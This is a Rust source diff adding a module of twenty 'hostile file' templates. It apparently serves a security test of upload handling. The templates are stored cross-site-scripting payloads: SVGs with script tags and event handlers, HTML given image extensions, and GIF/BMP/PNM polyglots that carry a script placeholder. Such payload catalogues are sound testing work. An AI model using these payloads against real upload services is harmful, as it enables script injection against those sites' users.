@@ -1,0 +1,82 @@
+//! The hostile files.
+
+/// A file with a script.
+#[derive(Clone, Copy)]
+pub(super) struct File {
+    /// Extension of its key.
+    pub(super) extension: &'static str,
+    /// The type that its uploader claims, and with which a browser runs the script.
+    pub(super) content_type: &'static str,
+    /// True if it is an image that Chromium shows.
+    pub(super) is_shown: bool,
+    /// Its content. `SCRIPT` stands for the script, which has no double quotes.
+    pub(super) template: &'static str,
+}
+
+const fn svg(template: &'static str) -> File {
+    File { extension: "svg", content_type: "image/svg+xml", is_shown: true, template }
+}
+
+const fn html(extension: &'static str, template: &'static str) -> File {
+    File { extension, content_type: "text/html", is_shown: false, template }
+}
+
+/// A file that begins like an image, and that a browser would read as HTML if it were told to.
+const fn polyglot(extension: &'static str, is_shown: bool, template: &'static str) -> File {
+    File { extension, content_type: "text/html", is_shown, template }
+}
+
+pub(super) const FILES: [File; 20] = [
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><script>SCRIPT</script></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="SCRIPT"></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><script href="data:text/javascript,SCRIPT"/></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><script xlink:href="data:text/javascript,SCRIPT"/></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><h:script>SCRIPT</h:script></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image href="x:" onerror="SCRIPT" width="1" height="1"/></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><animate attributeName="x" dur="1s" onbegin="SCRIPT"/></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><set attributeName="x" to="1" onbegin="SCRIPT"/></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><foreignObject width="9" height="9"><h:img src="x:" onerror="SCRIPT"/></foreignObject></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><foreignObject width="9" height="9"><h:details open="" ontoggle="SCRIPT">x</h:details></foreignObject></svg>"#,
+    ),
+    svg(
+        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><foreignObject width="9" height="9"><h:iframe srcdoc="&lt;script>SCRIPT&lt;/script>"/></foreignObject></svg>"#,
+    ),
+    svg(
+        r#"<!DOCTYPE svg [<!ENTITY it "<script xmlns='http://www.w3.org/2000/svg'>SCRIPT</script>">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">&it;</svg>"#,
+    ),
+    html("html", "<!DOCTYPE html><script>SCRIPT</script>"),
+    html("png", r#"<html><img src="x:" onerror="SCRIPT"></html>"#),
+    html("jpg", r#"<body onload="SCRIPT">"#),
+    polyglot(
+        "svg",
+        true,
+        r#"<!DOCTYPE html><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>SCRIPT</script></svg>"#,
+    ),
+    polyglot(
+        "gif",
+        true,
+        "GIF89a\u{1}\0\u{1}\0\0\0\0,\0\0\0\0\u{1}\0\u{1}\0\0\u{2}\u{2}D\u{1}\0;<script>SCRIPT</script>",
+    ),
+    polyglot("bmp", false, "BM<script>SCRIPT</script>"),
+    polyglot("pnm", false, "P2 1 1 1 1 <script>SCRIPT</script>"),
+    html("svg", "<?xml version='1.0'?><html><script>SCRIPT</script></html>"),
+];
